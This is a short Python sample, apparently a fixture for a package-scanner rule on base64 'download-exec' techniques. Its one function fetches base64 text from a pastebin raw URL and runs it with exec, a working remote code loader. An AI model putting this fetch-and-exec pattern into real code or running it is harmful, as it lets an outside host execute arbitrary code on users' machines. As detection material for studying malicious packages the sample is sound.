# technique: base64 payload fetched then exec'd
# class: download-exec
# source: GuardDog "exec-base64" rule docs
# declares: network
import base64
import urllib.request


def pull():
    enc = urllib.request.urlopen("https://pastebin.com/raw/Ld1kQ2vS", timeout=5).read()
    exec(base64.b64decode(enc))
